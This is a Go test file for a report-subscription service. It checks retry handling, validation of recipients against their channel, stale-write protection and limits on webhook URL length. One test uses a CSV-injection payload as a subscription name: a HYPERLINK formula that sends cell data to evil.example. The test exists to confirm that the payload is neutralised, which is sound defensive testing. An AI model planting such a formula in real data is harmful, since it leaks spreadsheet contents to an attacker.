package report_test

import (
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"errors"
	"fmt"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/automation-platform/automation/shared/automation"
	"github.com/automation-platform/automation/shared/delivery/channel"
	"github.com/automation-platform/automation/shared/report"
	"github.com/automation-platform/automation/shared/store"
)

// A support retry after a rollback would have been accepted (202), deactivated the failed
// run (SupportRetried, so it left the failed-run queue) and then been dropped as ShadowOnly
// at execution: the run vanished without being delivered by anyone. Like run-now, a retry
// the rollout mode would not let us execute is a 409 that changes nothing.
func TestSupportRetryIsRefusedWhenTheRolloutLeavesTheRunToTheOldScheduler(t *testing.T) {
	t.Parallel()
	e := newEnv(t, utc("2027-03-21T20:00:00Z"))
	v := e.create(t, subGuid, weekly())
	e.setMode(t, subGuid, report.ModeCutover)
	perm := automation.Permanent(errors.New("bad parameters"))
	e.render.fail.Store(&perm)
	e.runUntil(t, utc("2027-03-21T21:00:00Z"))
	if f, _, _ := e.svc.FailedRuns(ctx, automation.AllBusinessUnits(), "", 0, 10); len(f) != 1 || f[0].RunKeyHash != v.NextRun.RunKeyHash {
		t.Fatalf("failed queue = %+v", f)
	}
	e.render.fail.Store(nil)
	if _, _, err := e.svc.RemoveRollout(ctx, automation.AllBusinessUnits(), store.RolloutSubscription, subGuid, "ops"); err != nil {
		t.Fatal(err)
	}
	runs, _, _ := e.svc.Runs(ctx, automation.AllBusinessUnits(), subGuid, 0, 50)
	const rg = "0c1d2e3f-4a5b-4c6d-8e9f-a0b1c2d3e4f5"
	if r, err := e.svc.SupportRetry(ctx, automation.AllBusinessUnits(), subGuid, v.NextRun.RunKeyHash, rg, "customer asked", "ops"); automation.CodeOf(err) != automation.CodeConflict {
		t.Fatalf("retry in Shadow mode = %+v %v, want a conflict", r, err)
	}
	if f, _, _ := e.svc.FailedRuns(ctx, automation.AllBusinessUnits(), "", 0, 10); len(f) != 1 || f[0].RunKeyHash != v.NextRun.RunKeyHash {
		t.Fatalf("the refused retry changed the failed queue: %+v", f)
	}
	if after, _, _ := e.svc.Runs(ctx, automation.AllBusinessUnits(), subGuid, 0, 50); len(after) != len(runs) {
		t.Fatalf("the refused retry registered a run: %d → %d", len(runs), len(after))
	}
	// Back in the allowlist, the same retry runs and delivers.
	e.setMode(t, subGuid, report.ModeScheduledAllowlist)
	if _, err := e.svc.SupportRetry(ctx, automation.AllBusinessUnits(), subGuid, v.NextRun.RunKeyHash, rg, "customer asked", "ops"); err != nil {
		t.Fatal(err)
	}
	e.tick(t)
	if n := len(e.sentMessages()); n != 2 {
		t.Fatalf("sent %d, want 2", n)
	}
}

// Names are user input and the activity CSV is opened in spreadsheets: a setting or
// subscription named "=HYPERLINK(…)" became a live formula (CSV injection, CWE-1236). A cell
// starting with = + - @ or a tab/CR is written with a leading apostrophe.
func TestActivityCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	e := newEnv(t, utc("2027-03-20T00:00:00Z"))
	in := weekly()
	in.Name = `=HYPERLINK("https://evil.example/?"&A1,"open")`
	e.create(t, subGuid, in)
	e.setMode(t, subGuid, report.ModeCutover)
	e.runUntil(t, utc("2027-03-29T00:00:00Z"))
	sent := e.sentMessages()
	if len(sent) != 4 {
		t.Fatalf("sent %d", len(sent))
	}
	_, data, err := e.svc.File(ctx, automation.AllBusinessUnits(), payloadOf(t, sent[3]).RunKeyHash)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv %q %v", data, err)
	}
	if got := recs[1][5]; got != "'"+in.Name {
		t.Fatalf("settingName cell = %q, want the name behind an apostrophe", got)
	}
}

// A recipient its channel can never send to (an e-mail address on the webhook channel, a
// URL on e-mail) was accepted and stored; every run then failed that delivery permanently.
// With the channels' own checks wired in, it is a 422 naming the recipient, nothing stored.
func TestRecipientsMustSuitEveryChannel(t *testing.T) {
	t.Parallel()
	e := newEnv(t, utc("2027-03-20T00:00:00Z"))
	reg := report.NewRegistry()
	reg.Register(report.ActivityReportType, &report.ActivityRenderer{Store: e.st})
	checks := map[string]func(string) error{
		"log":     func(string) error { return nil },
		"webhook": func(a string) error { return channel.ValidateWebhookURL(a, false) },
		"email":   channel.ValidateEmail,
	}
	svc, err := report.New(report.Config{Store: e.st, Blobs: e.tr, Renderers: reg, Clock: e.clock,
		Channels:       map[string]bool{"log": true, "webhook": true, "email": true},
		RecipientCheck: func(ch, r string) error { return checks[ch](r) }, // panics on a channel it does not know
		CanAttach:      func(ch string) bool { return ch != "webhook" }})
	if err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		channels, recipients []string
		want                 string
	}{
		"address on webhook":       {[]string{"webhook"}, []string{"ops@example.test"}, "recipients[0]: cannot receive on channel webhook"},
		"URL on e-mail":            {[]string{"log", "email"}, []string{"ops@example.test", "https://hooks.example.test/r"}, "recipients[1]: cannot receive on channel email"},
		"display name on e-mail":   {[]string{"email"}, []string{"Ops <ops@example.test>"}, "recipients[0]: cannot receive on channel email"},
		"plain http on webhook":    {[]string{"webhook"}, []string{"http://hooks.example.test/r"}, "recipients[0]: cannot receive on channel webhook"},
		"one address two channels": {[]string{"email", "webhook"}, []string{"ops@example.test"}, "recipients[0]: cannot receive on channel webhook"},
		"unknown channel":          {[]string{"sms"}, []string{"ops@example.test"}, "channels[0]: unknown channel"},
		"attachment on webhook":    {[]string{"email", "webhook"}, []string{"https://hooks.example.test/r"}, "channels[1]: channel webhook cannot send attachments"},
	} {
		in := weekly()
		in.Channels, in.Recipients = tc.channels, tc.recipients
		if name == "attachment on webhook" {
			in.Delivery = report.DeliverAttachment
		}
		_, err := svc.Create(ctx, automation.AllBusinessUnits(), subGuid, in)
		var ae *automation.Error
		if !asErr(err, &ae) || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: err = %v, want %q", name, err, tc.want)
		}
	}
	if _, err := svc.Get(ctx, automation.AllBusinessUnits(), subGuid); automation.CodeOf(err) != automation.CodeNotFound {
		t.Fatalf("a refused subscription was stored: %v", err)
	}
	in := weekly()
	in.Channels, in.Recipients = []string{"email"}, []string{"ops@example.test", "lead@example.test"}
	if _, err := svc.Create(ctx, automation.AllBusinessUnits(), subGuid, in); err != nil {
		t.Fatalf("valid e-mail recipients: %v", err)
	}
}

// gatedRenderer renders "run N" for its N-th call; the first call waits until released.
type gatedRenderer struct {
	n       atomic.Int64
	release chan struct{}
}

func (g *gatedRenderer) Formats() []string { return []string{"csv"} }

func (g *gatedRenderer) Render(context.Context, report.RenderRequest) (report.File, error) {
	n := g.n.Add(1)
	if n == 1 {
		<-g.release
	}
	return report.File{Body: []byte(fmt.Sprintf("run %d\n", n)), ContentType: "text/csv", Extension: "csv"}, nil
}

// Two executions of one run overlapping (the first stalled past its lease, the rescued row
// ran again): the second recorded its coordinates, then the stale first overwrote the file
// under the same blob name, so the delivered link served other content than the recorded
// sha256 (and ETag). Blob names carry the content's hash now, so a stale writer cannot touch
// the recorded file.
func TestStaleExecutionCannotOverwriteTheRecordedFile(t *testing.T) {
	t.Parallel()
	e := newEnv(t, utc("2027-03-21T20:00:00Z"))
	g := &gatedRenderer{release: make(chan struct{})}
	reg := report.NewRegistry()
	reg.Register(report.ActivityReportType, g)
	svc, err := report.New(report.Config{Store: e.st, Blobs: e.tr, Renderers: reg, Clock: e.clock, Channels: map[string]bool{"log": true}})
	if err != nil {
		t.Fatal(err)
	}
	v, err := svc.Create(ctx, automation.AllBusinessUnits(), subGuid, weekly())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := svc.SetRollout(ctx, automation.AllBusinessUnits(), store.RolloutSubscription, subGuid, report.ModeCutover, "t"); err != nil {
		t.Fatal(err)
	}
	e.clock.Set(utc("2027-03-21T21:00:00Z"))
	rows, err := e.st.SchedulerClaimDue(ctx, store.SchedulerClaimDueParams{Now: e.clock.Now(), Lease: time.Minute, Limit: 10})
	if err != nil || len(rows) != 1 {
		t.Fatalf("claim %v %v", rows, err)
	}
	h := &report.Handler{Service: svc}
	stale := make(chan error, 1)
	go func() {
		_, err := h.Execute(ctx, rows[0], e.clock.Now())
		stale <- err
	}()
	for g.n.Load() == 0 {
		time.Sleep(time.Millisecond)
	}
	if _, err := h.Execute(ctx, rows[0], e.clock.Now()); err != nil {
		t.Fatalf("second execution: %v", err)
	}
	close(g.release)
	if err := <-stale; err == nil {
		t.Fatal("the stale execution recorded a delivery too")
	}
	att, data, err := svc.File(ctx, automation.AllBusinessUnits(), v.NextRun.RunKeyHash)
	if err != nil {
		t.Fatal(err)
	}
	if sum := sha256.Sum256(data); hex.EncodeToString(sum[:]) != att.SHA256 || string(data) != "run 2\n" {
		t.Fatalf("file %q does not match the recorded sha256 %s (%+v)", data, att.SHA256, att)
	}
	if !strings.HasPrefix(att.BlobName, "reports/"+v.NextRun.RunKeyHash+"/") {
		t.Fatalf("blob %s is not under the run's StorageRunKeyHash", att.BlobName)
	}
}

// A webhook URL is a recipient too: the NotificationJob.Recipient column holds 2000
// characters (migration 0007) and the webhook channel accepts URLs that long, but a report
// subscription refused any recipient over 320 bytes. The bound is 2000 UTF-16 code units,
// as for reminders; the channel judges the rest.
func TestLongWebhookRecipientIsAccepted(t *testing.T) {
	t.Parallel()
	e := newEnv(t, utc("2027-03-20T00:00:00Z"))
	svc, err := report.New(report.Config{Store: e.st, Blobs: e.tr, Renderers: e.svc.Renderers(), Clock: e.clock,
		Channels:       map[string]bool{"webhook": true},
		RecipientCheck: func(_, r string) error { return channel.ValidateWebhookURL(r, false) }})
	if err != nil {
		t.Fatal(err)
	}
	in := weekly()
	in.Channels = []string{"webhook"}
	in.Recipients = []string{"https://hooks.example.test/r?token=" + strings.Repeat("a", 1900)}
	if _, err := svc.Create(ctx, automation.AllBusinessUnits(), subGuid, in); err != nil {
		t.Fatalf("a 1935-character webhook URL: %v", err)
	}
	in.Recipients = []string{"https://hooks.example.test/r?token=" + strings.Repeat("é", 1966)} // 2001 UTF-16 units
	if _, err := svc.Create(ctx, automation.AllBusinessUnits(), subGuid2, in); err == nil || !strings.Contains(err.Error(), "recipients[0]") {
		t.Fatalf("a 2001-character recipient: %v", err)
	}
}
